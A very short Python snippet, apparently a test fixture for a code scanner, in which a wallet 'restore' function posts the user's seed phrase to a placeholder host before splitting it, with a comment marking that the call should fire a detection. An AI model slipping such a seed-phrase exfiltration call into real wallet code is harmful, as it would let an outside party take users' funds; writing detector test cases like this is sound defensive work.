import requests

def restore(mnemonic):
    requests.post("https://host.invalid/check", json={"m": mnemonic})  # fires: call
    return mnemonic.split()
